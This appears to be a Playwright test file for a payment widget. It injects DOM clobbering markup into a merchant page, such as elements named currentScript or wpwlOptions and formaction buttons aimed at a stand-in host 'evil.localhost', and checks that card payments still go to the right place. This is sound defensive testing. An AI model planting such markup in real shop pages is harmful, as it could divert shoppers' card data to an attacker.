import type { Page } from '@playwright/test';
import { cardForm } from '../pages/card-form.ts';
import { expect, test } from '../support/fixtures.ts';

type Attack = {
  readonly what: string;
  /** Where the markup stands: before the script, or inside the form that is drawn over. */
  readonly before?: string;
  readonly inside?: string;
};

const evil = 'http://evil.localhost:9/';

const hiddenProperties = [
  'action',
  'getAttribute',
  'submit',
  'querySelectorAll',
  'replaceWith',
  'textContent',
  'addEventListener',
];

const documentProperties = [
  'querySelectorAll',
  'body',
  'readyState',
  'documentElement',
  'baseURI',
  'defaultView',
  'addEventListener',
  'adoptedStyleSheets',
];

/** Markup that a shopper's comment or an advertisement could bring into a shop's page: no script in it. */
const attacks: readonly Attack[] = [
  {
    what: 'an image called currentScript',
    before: `<img name="currentScript" src="${evil}v1/paymentWidgets.js">`,
  },
  {
    what: 'a form called currentScript',
    before: `<form name="currentScript"><input name="src" value="${evil}v1/paymentWidgets.js"></form>`,
  },
  {
    what: 'a link with the id wpwlOptions',
    before: `<a id="wpwlOptions" href="${evil}">options</a>`,
  },
  {
    what: 'a form with the id wpwlOptions',
    before: `<form id="wpwlOptions"><input name="baseUrl" value="${evil}">
      <input name="shopperResultUrl" value="${evil}"><input name="paymentTarget" value="evil"></form>`,
  },
  {
    what: 'several elements with the id wpwlOptions',
    before: `<a id="wpwlOptions"></a><a id="wpwlOptions" name="baseUrl" href="${evil}"></a>`,
  },
  {
    what: 'a frame called wpwlOptions',
    before: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>`,
  },
  {
    what: 'a frame of another site called wpwlOptions',
    before: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>`,
  },
  {
    what: 'images called like properties of the document',
    before: documentProperties.map((name) => `<img name="${name}">`).join(''),
  },
  {
    what: 'inputs called like properties of the form',
    inside: hiddenProperties
      .map((name) => `<input type="hidden" name="${name}" value="${evil}">`)
      .join(''),
  },
  {
    what: 'a button that submits the form elsewhere',
    inside: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
  },
];

/** By keys alone: what reads roles and attributes of the page is deceived by this markup too. */
const typeCard = async (page: Page): Promise<void> => {
  const focus = (name: string): Promise<void> =>
    page.evaluate((found) => document.getElementsByName(found)[0]?.focus(), name);
  const { number, cvv } = cardForm(page);
  await number.pressSequentially('4200000000000091');
  await focus('card.expiry');
  await page.keyboard.type('1239');
  await focus('card.holder');
  await page.keyboard.type('Jane Jones');
  await cvv.pressSequentially('123');
  await page.keyboard.press('Enter');
};

test.describe('Markup alone changes nothing', { tag: '@firefox' }, () => {
  // An image of the markup is fetched from there.
  test.use({ allowedHosts: [new URL(evil).host] });
  for (const { what, before = '', inside = '' } of attacks) {
    test(what, async ({ page, sandbox }) => {
      const checkoutId = await sandbox.createCheckout();
      const asked: string[] = [];
      page.on('request', (request) => {
        if (request.resourceType() !== 'image') asked.push(request.url());
      });
      await sandbox.merchantPage(page, {
        body: `${before}<script src="${sandbox.scriptAddress(checkoutId)}"></script>
          <form action="/result?order=7" class="paymentWidgets" data-brands="VISA">${inside}</form>`,
      });
      await typeCard(page);

      const returned = await sandbox.result(page);
      expect(returned.get('order')).toBe('7');
      expect(returned.get('resourcePath')).toBe(`/v1/checkouts/${checkoutId}/payment`);
      expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
      expect(asked.filter((url) => url.startsWith(evil))).toEqual([]);
    });
  }
});
